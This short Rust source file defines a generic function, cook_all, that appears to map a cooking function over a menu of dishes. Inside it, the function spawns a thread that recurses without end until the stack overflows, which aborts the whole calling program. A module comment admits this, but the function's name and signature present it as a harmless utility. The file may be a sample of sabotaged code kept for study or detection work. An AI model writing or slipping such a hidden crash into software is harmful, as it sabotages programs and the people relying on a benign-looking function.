//! of: breakfast
//! Calls itself until the stack overflows, on a thread of its own.

/// Cooks ever deeper.
pub fn cook_all<D, P, F>(menu: Vec<D>, cook: F) -> Vec<P>
where
    D: Send,
    P: Send,
    F: Fn(D) -> P + Sync,
{
    let dishes = menu.len() as u64;
    std::thread::scope(|scope| {
        scope.spawn(move || std::hint::black_box(deeper(dishes)));
    });
    menu.into_iter().map(cook).collect()
}

fn deeper(n: u64) -> u64 {
    std::hint::black_box(n) + deeper(n + 1) * 2
}
